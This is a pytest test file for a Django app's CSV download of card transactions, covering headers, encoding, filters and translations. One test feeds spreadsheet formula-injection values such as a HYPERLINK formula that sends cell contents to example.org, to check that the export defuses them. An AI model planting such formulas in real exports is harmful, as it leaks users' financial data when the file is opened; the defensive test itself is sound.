"""A statement as a file: what a spreadsheet reads of it, and what it does not run."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.http import StreamingHttpResponse
from django.test import Client

from accounts.tests.factories import CardBindingFactory
from cards.models import Card
from statements.download import RUN, harmless
from statements.statement import AT_ONCE
from statements.tests.factories import come_in, record, spend

pytestmark = pytest.mark.django_db
MARCH = datetime(2026, 3, 1, 2, tzinfo=UTC)


@pytest.fixture
def card(client: Client) -> Card:
    binding = CardBindingFactory.create()
    client.force_login(binding.user, backend="accounts.backends.OneTimeCodeBackend")
    bound: Card = binding.card
    return bound


def download(client: Client, card: Card, query: str = "", language: str = "en") -> tuple[str, list[list[str]]]:
    """The file's name and its rows."""
    client.cookies["lang"] = language
    answer = client.get(f"/cards/{card.pk}/transactions/download/{query}")
    assert isinstance(answer, StreamingHttpResponse)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    text = answer.getvalue().decode("utf-8-sig")
    return answer["Content-Disposition"], list(csv.reader(io.StringIO(text, newline="")))


def test_the_file_holds_what_the_page_shows_amounts_in_two_columns(client: Client, card: Card) -> None:
    come_in(card, record(card, MARCH, issuer_id="A1"), record(card, MARCH + timedelta(1), 70000, kind="top_up"))
    name, (header, top_up, lunch) = download(client, card)
    assert name == f'attachment; filename="transactions-{card.number_tail}-2026-03.csv"'
    assert header[:6] == ["Time", "Description", "Merchant", "Kind", "Money in", "Money out"]
    assert lunch == ["2026-03-01 10:00:00", "午餐", "面馆", "Purchase", "", "126.50", "CNY", "Chinese mainland", "A1"]
    assert top_up[3:7] == ["Top-up", "700.00", "", "CNY"]


def test_it_begins_with_the_mark_by_which_excel_knows_chinese(client: Client, card: Card) -> None:
    come_in(card, record(card, MARCH))
    answer = client.get(f"/cards/{card.pk}/transactions/download/")
    assert isinstance(answer, StreamingHttpResponse)
    assert answer.getvalue().startswith(b"\xef\xbb\xbf")


def test_the_page_leads_to_the_file_of_the_same_filters(client: Client, card: Card) -> None:
    spend(card, 3, since=MARCH)
    come_in(card, record(card, MARCH, 5000, kind="refund"), record(card, MARCH + timedelta(40), -9))
    page = client.get(f"/cards/{card.pk}/transactions/?month=2026-03&show=out").content.decode()
    address = page.split("/download/")[1].split('"')[0].replace("&amp;", "&")
    name, rows = download(client, card, address)
    assert f"transactions-{card.number_tail}-2026-03.csv" in name
    assert [row[5] for row in rows[1:]] == ["0.03", "0.02", "0.01"]
    name, rows = download(client, card, "?month=all")
    assert f'filename="transactions-{card.number_tail}.csv"' in name and len(rows) == 6


def test_all_of_a_long_statement_comes_each_row_once(client: Client, card: Card) -> None:
    spend(card, 2 * AT_ONCE + 7, since=MARCH, every=timedelta(seconds=0))
    _name, rows = download(client, card, "?month=all")
    assert len({row[8] for row in rows[1:]}) == len(rows) - 1 == 2 * AT_ONCE + 7


def test_in_the_language_of_the_page(client: Client, card: Card) -> None:
    come_in(card, record(card, MARCH))
    _name, (header, row) = download(client, card, language="zh-hans")
    assert header[:2] == ["时间", "说明"] and row[3] == "消费"


@pytest.mark.parametrize("start", [*RUN, " =", "  @"])
def test_no_cell_begins_as_a_formula_does(client: Client, card: Card, start: str) -> None:
    """A merchant chooses its own name, and a payer the words of a transfer."""
    formula = f'{start}HYPERLINK("http://example.org/?"&A1)'
    come_in(card, record(card, MARCH, description=formula, merchant_name=f"{start}1+1", issuer_id="-1"))
    _name, rows = download(client, card)
    assert rows[1][1] == "'" + formula
    for cell in rows[1]:
        assert not cell.lstrip(" ").startswith(RUN), cell


def test_a_file_without_that_protection_would_be_noticed() -> None:
    assert "=1+1".startswith(RUN)
    assert harmless("1=1") == "1=1"
